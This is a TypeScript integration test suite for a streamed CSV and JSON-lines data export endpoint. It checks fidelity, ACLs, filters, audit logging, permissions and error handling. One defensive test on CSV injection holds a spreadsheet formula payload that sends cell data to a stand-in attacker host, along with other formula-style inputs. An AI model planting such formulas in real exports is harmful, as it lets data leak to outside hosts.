import { createServer, request } from 'node:http';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { EXPORT_ERROR_MARKER } from '@switchboard/shared';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createUser } from '../../domain/users';
import { ConsoleClient, startBff, testConfig } from '../../test/harness';
import type { TestBff } from '../../test/harness';
import { masterCall, startUpstreamServer } from '../../test/upstream-server';
import type { UpstreamServer } from '../../test/upstream-server';

/**
 * The streamed export of a class through the bff, against our API server. A small forwarding
 * proxy sits between them only to count (and, for the abort case, slow down) scan requests.
 */
let upstream: UpstreamServer;
let bff: TestBff;
let counter: { server: Server; url: string };
let scans = 0;
let scanDelayMs = 0;
/** Scan requests after this many are answered with a 500, as a failing app would. */
let failScansAfter = Infinity;
const admin = { email: 'admin@example.com', password: 'admin password 123' };
const viewer = { email: 'viewer@example.com', password: 'viewer password 1' };

const ITEMS = 300;
const BULK = 3500;

function startCounter(target: string): Promise<{ server: Server; url: string }> {
  const to = new URL(target);
  const server = createServer((req, res) => {
    const isScan = (req.url ?? '').startsWith('/1.1/scan/');
    if (isScan) scans++;
    if (isScan && scans > failScansAfter) {
      res.writeHead(500, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ code: 1, error: 'the database went away' }));
      return;
    }
    const forward = () => {
      const out = request(
        { host: to.hostname, port: to.port, method: req.method, path: req.url, headers: req.headers },
        (up) => {
          res.writeHead(up.statusCode ?? 502, up.headers);
          up.pipe(res);
        },
      );
      out.on('error', () => res.destroy());
      req.pipe(out);
    };
    if (isScan && scanDelayMs > 0) setTimeout(forward, scanDelayMs);
    else forward();
  });
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () =>
      resolve({ server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}` }),
    );
  });
}

const master = (method: string, path: string, body?: unknown) => masterCall(upstream, method, path, body);

async function createMany(className: string, count: number, make: (i: number) => Record<string, unknown>) {
  for (let start = 0; start < count; start += 500) {
    const requests = Array.from({ length: Math.min(500, count - start) }, (_, k) => ({
      method: 'POST',
      path: `/1.1/classes/${className}`,
      body: make(start + k),
    }));
    await master('POST', '/1.1/batch', { requests });
  }
}

const item = (i: number) => ({
  name: i % 7 === 0 ? `quote "${i}", comma\nand newline` : `item ${i}`,
  n: i,
  flag: i % 2 === 0,
  when: { __type: 'Date', iso: new Date(Date.UTC(2024, 0, 1) + i * 60_000).toISOString() },
  owner: { __type: 'Pointer', className: 'Owner', objectId: `owner${i % 3}` },
  tags: ['a', i],
  meta: { depth: { i } },
});

/** Every object of a class straight from the app, by objectId. */
async function storedOf(className: string): Promise<Map<string, Record<string, unknown>>> {
  // With the ACLs, as the export reads them (an object saved without one reports the default).
  const r = await master('GET', `/1.1/classes/${className}?limit=1000&returnACL=true`);
  const rows = r.results as Record<string, unknown>[];
  return new Map(rows.map((o) => [o.objectId as string, o]));
}
const storedItems = () => storedOf('Item');

beforeAll(async () => {
  upstream = await startUpstreamServer();
  counter = await startCounter(upstream.url);
  const config = testConfig(counter.url, { initialAdmin: admin });
  config.apps = [{ ...config.apps[0]!, ...upstream.keys, baseUrl: counter.url }];
  bff = await startBff(config);
  await createUser(bff.sql, { ...viewer, role: 'viewer' });
  await createMany('Item', ITEMS, item);
  await createMany('Bulk', BULK, (i) => ({ i, text: 'x'.repeat(200) }));
}, 120_000);

afterAll(async () => {
  await bff?.close();
  await new Promise((r) => counter?.server.close(r));
  await upstream?.stop();
});

async function as(user: { email: string; password: string }) {
  const c = new ConsoleClient(bff.url);
  await c.login(user.email, user.password);
  return c;
}

const exportPath = (className: string, query: Record<string, string>) =>
  `/api/apps/default/export/${className}?${new URLSearchParams(query).toString()}`;

describe('GET /api/apps/:app/export/:className', () => {
  it('streams JSON lines equal to the stored objects', async () => {
    const c = await as(admin);
    const r = await c.call('GET', exportPath('Item', { format: 'jsonl' }));
    expect(r.status).toBe(200);
    expect(r.headers.get('content-disposition')).toMatch(/^attachment; filename="Item-.*\.jsonl"$/);
    expect(r.headers.get('transfer-encoding')).toBe('chunked');
    const lines = r.text.trimEnd().split('\n');
    expect(lines).toHaveLength(ITEMS);
    const stored = await storedItems();
    const exported = lines.map((l) => JSON.parse(l) as Record<string, unknown>);
    for (const o of exported) expect(o).toEqual(stored.get(o.objectId as string));
    expect(new Set(exported.map((o) => o.objectId)).size).toBe(ITEMS);
  });

  it('streams CSV with a header of the schema fields and values that read back', async () => {
    const c = await as(admin);
    const r = await c.call('GET', exportPath('Item', { format: 'csv' }));
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toMatch(/^text\/csv/);
    const [header, ...rows]: string[][] = parse(r.text);
    expect(header).toEqual(
      expect.arrayContaining(['objectId', 'name', 'n', 'flag', 'when', 'owner', 'tags']),
    );
    expect(rows).toHaveLength(ITEMS);
    const col = (name: string) => header!.indexOf(name);
    const stored = await storedItems();
    for (const row of rows) {
      const o = stored.get(row[col('objectId')]!)!;
      expect(row[col('name')]).toBe(o.name);
      expect(Number(row[col('n')])).toBe(o.n);
      expect(row[col('flag')]).toBe(String(o.flag));
      expect(row[col('when')]).toBe((o.when as { iso: string }).iso);
      expect(row[col('owner')]).toBe((o.owner as { objectId: string }).objectId);
      expect(JSON.parse(row[col('tags')]!)).toEqual(o.tags);
      expect(JSON.parse(row[col('meta')]!)).toEqual(o.meta);
      expect(row[col('createdAt')]).toBe(o.createdAt);
    }
  });

  it('carries each ACL: JSON text in a CSV column, as stored in JSON lines', async () => {
    const acl = { '*': { read: true }, 'role:editors': { read: true, write: true } };
    await createMany('Guarded', 2, (i) => (i === 0 ? { i, ACL: acl } : { i }));
    const c = await as(admin);
    const csv = await c.call('GET', exportPath('Guarded', { format: 'csv' }));
    const [header, ...rows]: string[][] = parse(csv.text);
    const col = header!.indexOf('ACL');
    expect(col).toBeGreaterThan(-1);
    const stored = [...(await storedOf('Guarded')).values()];
    const byI = new Map(rows.map((r) => [r[header!.indexOf('i')], r]));
    expect(JSON.parse(byI.get('0')![col]!)).toEqual(acl);
    const other = stored.find((o) => o.i === 1)!;
    expect(byI.get('1')![col]).toBe(other.ACL === undefined ? '' : JSON.stringify(other.ACL));
    const jsonl = await c.call('GET', exportPath('Guarded', { format: 'jsonl', where: '{"i":0}' }));
    expect((JSON.parse(jsonl.text) as Record<string, unknown>).ACL).toEqual(acl);
    const narrowed = await c.call('GET', exportPath('Guarded', { format: 'csv', keys: 'i' }));
    expect(parse(narrowed.text)[0]).not.toContain('ACL');
    const withAcl = await c.call('GET', exportPath('Guarded', { format: 'csv', keys: 'i,ACL' }));
    expect(parse(withAcl.text)[0]).toContain('ACL');
  });

  it('writes formula text as text (CSV injection), and JSON lines as stored', async () => {
    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
    await createMany('Sheet', 1, () => ({ name: formula, minus: '-1+cmd', at: '@SUM(1)' }));
    const c = await as(admin);
    const [header, row]: string[][] = parse(
      (await c.call('GET', exportPath('Sheet', { format: 'csv' }))).text,
    );
    const cell = (name: string) => row![header!.indexOf(name)];
    expect(cell('name')).toBe(`'${formula}`);
    expect(cell('minus')).toBe("'-1+cmd");
    expect(cell('at')).toBe("'@SUM(1)");
    const jsonl = await c.call('GET', exportPath('Sheet', { format: 'jsonl' }));
    expect(JSON.parse(jsonl.text)).toMatchObject({ name: formula });
  });

  it('exports only what the where matches, and only the keys asked for', async () => {
    const c = await as(admin);
    const where = JSON.stringify({ n: { $lt: 50 }, flag: true });
    const r = await c.call('GET', exportPath('Item', { format: 'csv', where, keys: 'n,name' }));
    expect(r.status).toBe(200);
    const [header, ...rows]: string[][] = parse(r.text);
    expect([...header!].sort()).toEqual(['n', 'name', 'objectId']);
    expect(header![0]).toBe('objectId');
    const n = header!.indexOf('n');
    expect(rows.map((row) => Number(row[n])).sort((a, b) => a - b)).toEqual(
      Array.from({ length: 25 }, (_, k) => k * 2),
    );
    const dotted = await c.call('GET', exportPath('Item', { format: 'csv', where, keys: 'n.x,-flag,name' }));
    expect(dotted.text).toBe(r.text);
    const j = await c.call('GET', exportPath('Item', { format: 'jsonl', where, keys: 'n' }));
    const objects = j.text
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(objects).toHaveLength(25);
    expect(Object.keys(objects[0]!).sort()).toEqual(['createdAt', 'n', 'objectId', 'updatedAt']);
  });

  it('records the export in the audit log with its where', async () => {
    const c = await as(admin);
    const where = JSON.stringify({ n: 7 });
    expect((await c.call('GET', exportPath('Item', { format: 'jsonl', where }))).status).toBe(200);
    const log = await c.call('GET', '/api/audit?action=data.export&class=Item&limit=1');
    const [entry] = log.json.results as Record<string, unknown>[];
    expect(entry).toMatchObject({
      action: 'data.export',
      app: 'default',
      target: { class: 'Item' },
      summary: { format: 'jsonl', where: { n: 7 } },
      result: 'ok',
      actorEmail: admin.email,
    });
  });

  it('refuses a role without export.run, before reading anything', async () => {
    const c = await as(viewer);
    const before = scans;
    const r = await c.call('GET', exportPath('Item', { format: 'csv' }));
    expect(r.status).toBe(403);
    expect(r.json).toMatchObject({ code: 'forbidden' });
    expect(r.json.message).toMatch(/export\.run/);
    expect(scans).toBe(before);
  });

  it('answers bad input with the console error model before streaming', async () => {
    const c = await as(admin);
    const badJson = await c.call('GET', exportPath('Item', { format: 'csv', where: '{nope' }));
    expect(badJson.status).toBe(400);
    expect(badJson.json.message).toMatch(/where/);
    const badOp = await c.call('GET', exportPath('Item', { format: 'csv', where: '{"n":{"$bogus":1}}' }));
    expect(badOp.status).toBe(400);
    const unknown = await c.call('GET', exportPath('NoSuchClass', { format: 'csv' }));
    expect(unknown.status).toBe(404);
    expect(unknown.json).toMatchObject({ code: 'not_found' });
    const badFormat = await c.call('GET', exportPath('Item', { format: 'xml' }));
    expect(badFormat.status).toBe(400);
    const badName = await c.call('GET', exportPath('no-such', { format: 'csv' }));
    expect(badName.status).toBe(400);
  });

  it('reads every page of a class larger than one scan page', async () => {
    const c = await as(admin);
    const before = scans;
    const r = await c.call('GET', exportPath('Bulk', { format: 'jsonl' }));
    expect(r.text.trimEnd().split('\n')).toHaveLength(BULK);
    expect(r.text).not.toContain(EXPORT_ERROR_MARKER);
    expect(scans - before).toBe(Math.ceil(BULK / 1000));
  });

  it('ends with an error line when the app fails after the export has begun', async () => {
    const c = await as(admin);
    failScansAfter = scans + 1;
    try {
      const jsonl = await c.call('GET', exportPath('Bulk', { format: 'jsonl' }));
      expect(jsonl.status).toBe(200);
      const lines = jsonl.text.trimEnd().split('\n');
      expect(lines).toHaveLength(1001);
      expect(JSON.parse(lines[1000]!)).toEqual({
        [EXPORT_ERROR_MARKER]: expect.stringMatching(/incomplete.*the database went away/) as unknown,
      });
      failScansAfter = scans + 1;
      const csv = await c.call('GET', exportPath('Bulk', { format: 'csv' }));
      const rows: string[][] = parse(csv.text, { relax_column_count: true });
      expect(rows).toHaveLength(1 + 1000 + 1);
      expect(rows[rows.length - 1]![0]).toBe(EXPORT_ERROR_MARKER);
    } finally {
      failScansAfter = Infinity;
    }
  });

  it('stops scanning when the client goes away', async () => {
    const login = await new ConsoleClient(bff.url).login(admin.email, admin.password);
    const cookie = login.setCookie?.split(';')[0] ?? '';
    scanDelayMs = 300;
    const before = scans;
    try {
      const stop = new AbortController();
      const res = await fetch(`${bff.url}${exportPath('Bulk', { format: 'jsonl' })}`, {
        headers: { cookie },
        signal: stop.signal,
      });
      expect(res.status).toBe(200);
      const reader = res.body!.getReader();
      await reader.read();
      stop.abort();
      // Longer than the rest of the export would take: three more delayed pages.
      await new Promise((r) => setTimeout(r, 4 * scanDelayMs + 500));
      expect(scans - before).toBeLessThan(Math.ceil(BULK / 1000));
      const settled = scans;
      await new Promise((r) => setTimeout(r, 2 * scanDelayMs));
      expect(scans).toBe(settled);
    } finally {
      scanDelayMs = 0;
    }
  });
});
